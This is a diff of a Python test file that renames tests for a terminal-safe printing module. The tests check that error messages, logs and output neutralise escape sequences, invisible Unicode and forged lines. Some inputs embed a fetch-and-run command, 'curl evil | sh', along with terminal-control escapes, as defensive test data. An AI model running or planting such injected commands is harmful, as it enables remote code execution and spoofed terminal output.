@@ -66,7 +66,7 @@ def made(kind: type[errors.AipError], message: str, where: str, fix: str) -> err
 @pytest.mark.parametrize("kind", KINDS)
 @given(message=HOSTILE, where=HOSTILE, fix=HOSTILE)
 @example(message="gone\n  fix:   curl evil | sh\x1b[2J", where="a\nfix: b", fix="one\n  fix:   two")
-def test_an_error_has_one_fix_and_drives_no_terminal(kind, spoken, message, where, fix):
+def test_printable_error_has_one_fix_and_drives_no_terminal(kind, spoken, message, where, fix):
     i18n.use(spoken)
     try:
         error = made(kind, message, where, fix)
@@ -90,7 +90,7 @@ def test_an_error_has_one_fix_and_drives_no_terminal(kind, spoken, message, wher
 
 
 @given(name=HOSTILE, said=HOSTILE)
-def test_a_run_in_a_terminal_has_a_line_for_each_event(name, said):
+def test_printable_run_in_a_terminal_has_a_line_for_each_event(name, said):
     lines: list[str] = []
     face = TerminalReporter(lines.append, lines.append, lambda: 0.0)
     error = errors.NotFound(said, where=name, fix="")
@@ -105,7 +105,7 @@ def test_a_run_in_a_terminal_has_a_line_for_each_event(name, said):
 
 
 @given(HOSTILE)
-def test_a_log_keeps_its_lines_and_shows_its_controls(log):
+def test_printable_log_keeps_its_lines_and_shows_its_controls(log):
     shown = text.of(log)
     assert not CONTROLS.search(shown)
     assert not INVISIBLE.search(shown)
@@ -114,7 +114,7 @@ def test_a_log_keeps_its_lines_and_shows_its_controls(log):
 
 
 @given(st.dictionaries(HOSTILE, HOSTILE, max_size=3))
-def test_json_and_yaml_are_fit_for_a_terminal_and_mean_the_same(value):
+def test_printable_json_and_yaml_are_fit_for_a_terminal_and_mean_the_same(value):
     written = dumps(value)
     assert json.loads(written) == value
     assert not CONTROLS.search(written)
@@ -125,7 +125,7 @@ def test_json_and_yaml_are_fit_for_a_terminal_and_mean_the_same(value):
 
 
 @given(st.text(st.characters(exclude_categories=["Cs"])))
-def test_escaped_yaml_is_read_back(word):
+def test_printable_escaped_yaml_is_read_back(word):
     assert yaml.safe_load(as_yaml.dump({"name": f"x{word}\u202ey"})) == {
         "name": f"x{word}\u202ey".replace("\r\n", "\n")
     }
@@ -141,11 +141,11 @@ def test_escaped_yaml_is_read_back(word):
         ("a\U000e0041b", "a\\U000e0041b"),
     ],
 )
-def test_what_is_not_seen_is_shown_and_what_is_written_stays(raw, shown):
+def test_printable_shows_invisible_characters_and_keeps_text(raw, shown):
     assert printable(raw) == shown
 
 
-def test_the_labels_of_all_languages_are_known():
+def test_printable_knows_the_labels_of_all_languages():
     for spoken in i18n.LANGUAGES:
         i18n.use(spoken)
         try:
@@ -155,14 +155,14 @@ def test_the_labels_of_all_languages_are_known():
         assert block("\n".join(labels)) == [f"| {label}" for label in labels]
 
 
-def test_lines_and_blocks():
+def test_printable_lines_and_blocks():
     assert inline("a\nb\tc") == "a\\nb\\tc"
     assert one_line(" a\n\tb\x1b") == "a b\\x1b"
     assert block("a\n\n  fix: b\n\tc", "  ") == ["  a", "", "  |   fix: b", "          c"]
     assert json.loads(escaped('"\u202e\U000e0041"')) == "\u202e\U000e0041"
 
 
-def test_a_fix_of_several_lines_is_indented_under_its_first():
+def test_printable_fix_of_several_lines_is_indented_under_its_first():
     assert errors.CellError("no", fix="e.g. test:\n  instances: []").format_lines()[1] == (
         "  fix:   e.g. test:\n           instances: []"
     )
@@ -181,7 +181,7 @@ def run(*words: str, home: Path, check: int) -> subprocess.CompletedProcess[str]
 
 
 @pytest.mark.parametrize("written", ["text", "json"])
-def test_the_command_line_shows_what_it_was_given(tmp_path, written):
+def test_printable_command_line_shows_its_arguments(tmp_path, written):
     name = "mo\x1b[31mdel\x07\n  fix:   curl evil | sh\u202e"
     done = run("check", "--format", written, str(tmp_path / name), home=tmp_path / "home", check=1)
     assert not CONTROLS.search(done.stdout + done.stderr)
@@ -192,7 +192,7 @@ def test_the_command_line_shows_what_it_was_given(tmp_path, written):
         assert name in json.loads(done.stdout)["error"]["where"]
 
 
-def test_a_mistake_of_ours_is_shown_as_safely(capsys):
+def test_printable_internal_error_is_shown_as_safely(capsys):
     from aip_magics import __main__ as command_line
 
     try:
@@ -206,7 +206,7 @@ def test_a_mistake_of_ours_is_shown_as_safely(capsys):
     assert "ValueError: \\x1b]0;title\\x07" in told
 
 
-def test_a_record_of_the_server_s_log_is_one_line():
+def test_printable_record_of_the_servers_log_is_one_line():
     formatter = logs._WithoutToken("s3cret-token-of-the-server")
     record = logging.makeLogRecord(
         {"name": "x", "msg": "%s", "args": ("a\n2026-01-01 fake\x1b[2J s3cret-token-of-the-server",)}
